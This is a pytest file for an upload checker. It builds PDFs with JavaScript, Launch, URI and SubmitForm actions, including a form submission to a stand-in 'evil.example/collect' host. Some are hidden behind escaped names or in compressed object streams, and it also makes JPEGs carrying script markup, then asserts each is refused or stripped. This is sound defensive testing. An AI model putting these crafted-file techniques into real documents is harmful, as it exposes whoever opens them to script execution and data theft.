"""Hostile uploads (issue 12, item 9): PDFs crafted with pikepdf carrying active content, also behind escaped names
and inside compressed object streams, and JPEGs with payloads, are refused; ordinary files still pass."""

from __future__ import annotations

import io
import struct
from collections.abc import Callable

import pikepdf
import pytest
from PIL import Image

from warden.appeals.uploads import UploadRejected, sniff, tiny_pdf

ALLOWED = ["image/png", "image/jpeg", "image/webp", "application/pdf"]
MB = 1024 * 1024


def refusal(data: bytes) -> str:
    with pytest.raises(UploadRejected) as exc:
        sniff(data, ALLOWED, 10 * MB)
    assert exc.value.code == "damaged"
    return exc.value.en


def accepted(data: bytes, media: str) -> None:
    assert sniff(data, ALLOWED, 10 * MB).media_type == media


# --- PDF ------------------------------------------------------------------------------------------------------


def pdf_with(change: Callable[[pikepdf.Pdf], None], *, streams: bool = False) -> bytes:
    """A one-page PDF made by pikepdf, changed by `change`; `streams`: objects packed in compressed object streams."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    change(pdf)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, compress_streams=streams)
    return out.getvalue()


def action(pdf: pikepdf.Pdf, kind: str, **fields: object) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **fields))


def open_action(kind: str, **fields: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action(pdf, kind, **fields)

    return change


def escaped(data: bytes, name: bytes, spelled: bytes) -> bytes:
    """`data` with the PDF name `name` written with #xx escapes (`/J#61vaScript`): the same name to a reader."""
    assert name in data
    return data.replace(name, spelled)


def test_a_plain_pdf_made_by_a_library_is_accepted_with_or_without_object_streams() -> None:
    accepted(pdf_with(lambda _: None), "application/pdf")
    accepted(pdf_with(lambda _: None, streams=True), "application/pdf")
    accepted(tiny_pdf("letter"), "application/pdf")


def test_an_open_action_running_javascript_is_refused_also_when_its_name_is_escaped() -> None:
    js = pdf_with(open_action("JavaScript", JS=pikepdf.String("app.alert(1)")))
    assert "JavaScript" in refusal(js)
    hidden = escaped(js, b"/JavaScript", b"/J#61vaScript")
    assert b"/JavaScript" not in hidden
    assert "JavaScript" in refusal(hidden)
    hidden_key = escaped(js, b"/JS ", b"/#4aS ")
    assert "JavaScript" in refusal(hidden_key)


def test_launch_uri_and_submit_form_actions_are_refused() -> None:
    launch = pdf_with(open_action("Launch", F=pikepdf.String("calc.exe")))
    assert "Launch" in refusal(launch)
    assert "Launch" in refusal(escaped(launch, b"/Launch", b"/L#61unch"))
    assert "URI" in refusal(pdf_with(open_action("URI", URI=pikepdf.String("https://evil.example/"))))

    def link(pdf: pikepdf.Pdf) -> None:  # a link annotation on the page, not an open action
        annot = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 10, 10],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/")),
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))

    assert "URI" in refusal(pdf_with(link))

    def submit_on_open(pdf: pikepdf.Pdf) -> None:  # /AA: additional actions, triggered by events
        submit = action(pdf, "SubmitForm", F=pikepdf.String("https://evil.example/collect"))
        pdf.pages[0].AA = pikepdf.Dictionary(O=submit)

    assert refusal(pdf_with(submit_on_open))


def test_javascript_name_trees_and_embedded_files_are_refused() -> None:
    def name_tree(pdf: pikepdf.Pdf) -> None:
        script = action(pdf, "JavaScript", JS=pikepdf.String("app.alert(1)"))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script]))

    assert "JavaScript" in refusal(pdf_with(name_tree))

    def attach(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="payload.exe")

    assert "Embedded" in refusal(pdf_with(attach)) or "EF" in refusal(pdf_with(attach))


def test_javascript_inside_a_compressed_object_stream_is_refused() -> None:
    packed = pdf_with(open_action("JavaScript", JS=pikepdf.String("app.alert(1)")), streams=True)
    assert b"JavaScript" not in packed and b"/ObjStm" in packed  # invisible to a scan of the bytes
    assert "JavaScript" in refusal(packed)


def test_an_encrypted_pdf_cannot_be_checked_and_is_refused() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    assert "encrypted" in refusal(out.getvalue())
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="", owner="owner"))  # opens without a password
    assert "encrypted" in refusal(out.getvalue())


def test_a_pdf_that_is_not_a_pdf_inside_is_refused() -> None:
    assert refusal(b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n")


# --- JPEG -----------------------------------------------------------------------------------------------------


def jpeg(progressive: bool = False, comment: bytes | None = None) -> bytes:
    out = io.BytesIO()
    extra = {"comment": comment} if comment is not None else {}
    Image.new("RGB", (16, 16), (200, 30, 30)).save(out, "JPEG", progressive=progressive, quality=80, **extra)
    return out.getvalue()


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def test_jpegs_from_a_library_are_accepted_baseline_and_progressive_and_with_a_plain_comment() -> None:
    accepted(jpeg(), "image/jpeg")
    accepted(jpeg(progressive=True), "image/jpeg")
    accepted(jpeg(comment=b"scanned 2026-11-25"), "image/jpeg")


def test_a_jpeg_with_html_before_its_end_marker_is_refused() -> None:
    assert "not a marker segment" in refusal(b"\xff\xd8\xff<html><script>alert(1)</script></html>\xff\xd9")
    assert refusal(b"\xff\xd8" + segment(0xE0, b"JFIF\x00") + b"<html>" + b"\xff\xd9")
    real = jpeg()
    assert "markup" in refusal(real[:2] + segment(0xFE, b"<script>alert(1)</script>") + real[2:])
    assert "not image metadata" in refusal(real[:2] + segment(0xE1, b"x<IFRAME src=//evil>") + real[2:])
    assert "markup" in refusal(jpeg(comment=b"<html><body>hi</body></html>"))


def test_data_after_the_jpeg_end_or_a_cut_off_jpeg_is_refused() -> None:
    real = jpeg()
    assert "follows the JPEG's end" in refusal(real + b"<html>")
    assert "follows the JPEG's end" in refusal(real + b"\xff\xd8" + real[2:])  # a second image glued on
    assert refusal(real[:-2])
    assert refusal(real[: len(real) // 2])


def test_a_jpeg_without_a_frame_or_a_scan_is_refused() -> None:
    assert "no frame or no scan" in refusal(b"\xff\xd8" + segment(0xE0, b"JFIF\x00") + b"\xff\xd9")
    assert "scan before its frame" in refusal(b"\xff\xd8" + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\xff\xd9")


# --- content disarm and reconstruction: what is stored is rebuilt from the pixels alone ----------------------


def test_S_D6_metadata_of_an_accepted_jpeg_is_not_in_the_stored_copy() -> None:
    real = jpeg(comment=b"scanned 2026-11-25")
    exif = segment(0xE1, b"Exif\x00\x00" + b"<iframe src=//evil></iframe>".ljust(40))
    got = sniff(real[:2] + exif + real[2:], ALLOWED, 10 * MB)
    assert got.media_type == "image/jpeg" and got.size == len(got.data)
    assert b"iframe" not in got.data and b"scanned" not in got.data and b"Exif" not in got.data
    with Image.open(io.BytesIO(got.data)) as im:
        assert im.size == (16, 16) and "comment" not in im.info and "exif" not in im.info


def test_S_D6_text_chunks_of_an_accepted_png_are_not_in_the_stored_copy() -> None:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "a scanner 1.0")
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (1, 2, 3, 4)).save(out, "PNG", pnginfo=info)
    got = sniff(out.getvalue(), ALLOWED, 10 * MB)
    assert b"tEXt" not in got.data and b"scanner" not in got.data
    with Image.open(io.BytesIO(got.data)) as im:
        assert im.getpixel((0, 0)) == (1, 2, 3, 4)


def test_S_D6_an_image_whose_structure_holds_but_does_not_decode_is_refused() -> None:
    import zlib

    png = io.BytesIO()
    Image.new("RGB", (64, 64)).save(png, "PNG")
    data = png.getvalue()
    start = data.index(b"IDAT") - 4
    (length,) = struct.unpack(">I", data[start : start + 4])
    body = b"IDAT" + zlib.compress(b"\x00" * 10)  # too few rows for 64×64
    broken = data[:start] + struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    assert "cannot be decoded" in refusal(broken + data[start + 12 + length :])


def test_S_D6_an_accepted_pdf_is_stored_as_qpdf_rewrote_it() -> None:
    got = sniff(tiny_pdf("letter"), ALLOWED, 10 * MB)
    with pikepdf.open(io.BytesIO(got.data)) as pdf:
        assert len(pdf.pages) == 1
